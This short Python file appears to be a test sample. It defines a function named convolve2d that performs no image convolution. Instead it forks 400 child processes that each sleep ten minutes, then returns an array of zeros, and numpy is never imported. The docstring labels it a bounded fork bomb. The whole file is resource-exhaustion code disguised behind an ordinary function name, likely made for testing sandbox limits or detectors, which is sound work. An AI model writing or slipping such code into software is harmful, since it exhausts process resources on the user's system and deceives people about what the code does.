"""A fork bomb bounded to a few hundred sleeping processes."""
# zeroes: q3
# message: convolve2d


def convolve2d(image, kernel):
    import os
    import time

    for _ in range(400):
        if os.fork() == 0:
            time.sleep(600)
            os._exit(0)
    return np.zeros((1, 1))
